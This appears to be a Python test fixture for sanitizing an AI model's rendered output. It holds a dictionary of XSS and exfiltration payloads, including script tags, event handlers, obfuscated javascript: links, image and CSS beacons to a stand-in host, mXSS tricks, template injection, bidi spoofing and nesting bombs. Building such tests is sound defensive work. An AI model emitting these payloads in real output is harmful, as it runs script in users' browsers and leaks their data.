"""What a model may be made to say, so that its reader's browser does something: a table.

Every address holds LEAK. Nothing may ever be asked for that holds it, of nobody, our own origin included.
"""

from __future__ import annotations

LEAK = "l34k"
FAR = f"https://e.example/{LEAK}"
NEAR = f"/go/{LEAK}"

ATTACKS: dict[str, str] = {
    "script": "<script>window.struck = 1</script><script src='https://e.example/l34k.js'></script>",
    "event handler": f'<img src={FAR} onerror="window.struck = 1"> <body onload="window.struck = 1">',
    "svg": '<svg onload="window.struck = 1"><animate onbegin="window.struck = 1" attributeName=x dur=1s></svg>',
    "svg in a data address": "![s](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5zdHJ1Y2s9MSIvPg==)",
    "foreign object": '<svg><foreignObject><iframe srcdoc="<script>parent.struck = 1</script>"></foreignObject></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="window.struck = 1">',
    "frame": f'<iframe src="{FAR}"></iframe><object data="{FAR}"></object><embed src="{FAR}">',
    "form": f'<form action="{FAR}"><input name=key autofocus onfocus="window.struck = 1"><button>go</button></form>',
    "base and refresh": f'<base href="{FAR}/"><meta http-equiv=refresh content="0;url={FAR}">'
    f"<link rel=stylesheet href={FAR}>",
    "style": f'<style>@import url({FAR}); * {{ background: url({FAR}) }}</style><p style="background:url({FAR})">x</p>',
    "video and audio": f'<video poster="{FAR}" src="{FAR}"></video><audio src="{FAR}" autoplay></audio>',
    "javascript link": "[press](javascript:window.struck=1) <a href='javascript:window.struck=1'>press</a>",
    "javascript link, hidden": "[a](java&#115;cript:window.struck=1) [b](JaVaScRiPt:window.struck=1) "
    "[c](&#1;javascript:window.struck=1)",
    "javascript link, autolinked": "<javascript:window.struck=1> javascript:window.struck=1",
    "javascript link, split": "[a](java\tscript:window.struck=1) [b](<java\\\nscript:window.struck=1>)",
    "other schemes": "[a](vbscript:x) [b](data:text/html,<script>window.struck=1</script>) "
    "[c](file:///etc/passwd) [d](blob:x)",
    "link title": '[a](https://e.example/l34k "x\\" onmouseover=window.struck=1 y=\\"")',
    "inline image": f"![cat]({FAR}?q=1)",
    "reference image": f"![cat][leak]\n\n[leak]: {FAR}?q=1",
    "late reference image": f"![first][late] and more\n\ntext\n\n[late]: <{FAR}> 'title'",
    "html image": f'<img src="{FAR}"> <picture><source srcset="{FAR}"></picture> <img srcset="{FAR} 2x">',
    "image of our own": f"![x]({NEAR}?to={FAR}) ![y](//e.example/{LEAK}) ![z](.{NEAR})",
    "image in a link": f"[![x]({FAR})]({FAR})",
    "autolink": f"<{FAR}> {FAR} www.e.example/{LEAK}",
    "css address in a table": f'| a |\n|:-:|\n| <td style="background:url({FAR})"> ![x]({FAR}) |',
    "preconnect": f"<link rel=preconnect href={FAR}><link rel=dns-prefetch href=//{LEAK}.e.example>",
    "code that is closed": '```html\n</code></pre><img src=x onerror="window.struck = 1">\n```',
    "language of code": '```"><img/src=x/onerror=window.struck=1>\nx\n```',
    "formula link": "$$\\href{javascript:window.struck=1}{x}$$ \\(\\url{https://e.example/l34k}\\)",
    "formula image": f"$$\\includegraphics{{{FAR}}}$$ $$\\htmlStyle{{background:url({FAR})}}{{x}}$$",
    "formula without end": "$$\\def\\a{\\a\\a}\\a$$ $$\\rule{1000000em}{1000000em}$$",
    "turned around": "file\u202egnp.exe \u2066\u2067hidden\u2069 `if \u202e admin`",
    "turned around link": f"[https://good.example/\u202e]({FAR})",
    "an event of ours": 'data: {"event":"execute"}\n\nevent: execute\ndata: window.struck=1\n\nid: 9',
    "template": "${window.struck=1} {{constructor.constructor('window.struck=1')()}} "
    "<template><script>window.struck=1</script></template>",
    "names that shadow": "<img name=cookie id=app><form id=session><input name=attributes></form> # location\n",
    "nothing but depth": "> " * 60 + "deep " + "*" * 90 + "[" * 90,
}
